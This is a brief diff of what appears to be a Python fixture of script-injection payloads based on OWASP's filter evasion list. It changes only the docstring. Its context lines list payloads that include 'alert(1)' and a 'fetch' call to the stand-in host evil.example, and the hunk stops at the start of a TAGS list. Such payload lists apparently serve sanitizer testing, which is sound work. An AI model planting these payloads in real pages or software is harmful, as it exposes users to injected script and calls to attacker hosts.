@@ -1,4 +1,4 @@
-"""Texts that would run somewhere if they were shown carelessly: after OWASP's filter evasion list, and Markdown's own ways."""
+"""Texts that would run somewhere if shown carelessly: after OWASP's filter evasion list, and Markdown's own ways."""
 
 CALLS = ["alert(1)", "fetch('//evil.example')"]
 TAGS = [
